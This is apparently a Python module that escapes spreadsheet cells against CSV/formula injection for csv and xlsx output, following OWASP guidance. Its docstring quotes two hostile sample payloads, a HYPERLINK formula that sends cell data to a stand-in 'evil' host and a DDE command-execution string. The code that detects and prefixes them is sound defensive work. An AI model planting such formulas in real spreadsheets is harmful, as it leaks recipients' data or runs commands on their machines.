"""Text in spreadsheet cells that a spreadsheet can never run: every csv and xlsx writer goes through here.

Names come from files other people send (a partner's workbook, a supplier's option), so a name such as
``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0`` must reach Excel as text.  Following the
OWASP guidance on CSV injection:

* **csv**: a text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a single
  quote in front (``'=HYPERLINK(…)``), so a spreadsheet shows it as text; numbers stay numbers.
* **xlsx**: every text cell is written as a string cell (never a formula), and one that starts with those
  characters also carries Excel's quote prefix, so editing it in Excel keeps it text.  Characters XML
  cannot hold (control characters) and a literal ``_xHHHH_`` are escaped the way Excel escapes them
  (``_x001B_``, ``_x005F_x…``), so a programme workbook reads back exactly: :func:`from_xlsx_text` undoes it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable
from typing import Any

import pandas as pd

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_XML_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\r\ufffe\uffff]|_(?=x[0-9A-Fa-f]{4}_)")
_XML_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def formula_like(value: object) -> bool:
    """Text a spreadsheet would take for a formula."""
    return isinstance(value, str) and value.startswith(DANGEROUS)


# ------------------------------------------------------------------------------------------ csv
def csv_text(value: Any) -> Any:
    """A csv cell's value: text that a spreadsheet would run gets a leading ``'``; anything else as is."""
    return "'" + value if formula_like(value) else value


def _safe_frame(frame: pd.DataFrame, function: Callable[[str], str]) -> pd.DataFrame:
    """The frame with ``function`` applied to every text cell, column name and index label."""

    def text(value: Any) -> Any:
        return function(value) if isinstance(value, str) else value

    def labels(index: pd.Index) -> pd.Index:
        if isinstance(index, pd.MultiIndex):
            return pd.MultiIndex.from_tuples(
                [tuple(text(v) for v in t) for t in index], names=[text(n) for n in index.names]
            )
        return pd.Index([text(v) for v in index], name=text(index.name), dtype=index.dtype)

    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if not (pd.api.types.is_numeric_dtype(values) or pd.api.types.is_datetime64_any_dtype(values)):
            out[column] = values.map(text)
    out.columns = labels(out.columns)
    out.index = labels(out.index)
    return out


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell, column name and index label made safe for csv."""
    return _safe_frame(frame, csv_text)


def frame_csv(frame: pd.DataFrame, **kwargs: Any) -> str:
    """``frame.to_csv(...)`` with text that a spreadsheet would run neutralised.

    Every field holding a line break is quoted, a lone carriage return included (Python's csv module
    quotes only the characters of its line terminator, so ``a\rb`` would end a row in Excel and let
    the rest of a name start a new row, outside any quoting): pandas writes with ``\r\n``, which
    quotes both, and the rows are then joined with ``\n`` as before.
    """
    terminator, sep = kwargs.pop("lineterminator", "\n"), kwargs.pop("sep", ",")
    text = str(csv_frame(frame).to_csv(lineterminator="\r\n", sep=sep, **kwargs))
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=sep)
    return "".join(sep.join(_csv_field(field, sep) for field in row) + terminator for row in rows)


def _csv_field(field: str, sep: str) -> str:
    if any(c in field for c in (sep, '"', "\r", "\n")):
        return '"' + field.replace('"', '""') + '"'
    return field


# ----------------------------------------------------------------------------------------- xlsx
def xlsx_text(text: str) -> str:
    """Text as an xlsx cell holds it: characters XML cannot carry escaped as ``_xHHHH_`` (as Excel does)."""
    return _XML_UNSAFE.sub(lambda m: f"_x{ord(m.group(0)):04X}_", text)


def from_xlsx_text(text: str) -> str:
    """The text an xlsx cell stands for: ``_xHHHH_`` escapes undone (:func:`xlsx_text` in reverse)."""
    return _XML_ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), text)


def xlsx_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell, column name and index label escaped for xlsx."""
    return _safe_frame(frame, xlsx_text)


def xlsx_value(value: Any) -> Any:
    """A value to put in a cell: text escaped for XML; anything else as is."""
    return xlsx_text(value) if isinstance(value, str) else value


def neutralise_cell(cell: Any) -> None:
    """A text cell as a string (openpyxl makes ``=…`` a formula), quote-prefixed if it looks like one."""
    value = cell.value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(DANGEROUS):
            cell.quotePrefix = True


def neutralise_book(book: Any) -> Any:
    """Every text cell of every sheet as a string, never a formula; the workbook, for chaining."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                neutralise_cell(cell)
    return book


def frames_workbook(sheets: Iterable[tuple[str, pd.DataFrame, bool]]) -> bytes:
    """An xlsx workbook of ``(sheet name, frame, write the index?)``, every text cell safe."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame, index in sheets:
            xlsx_frame(frame).to_excel(writer, sheet_name=name, index=index)
        neutralise_book(writer.book)
    return buffer.getvalue()
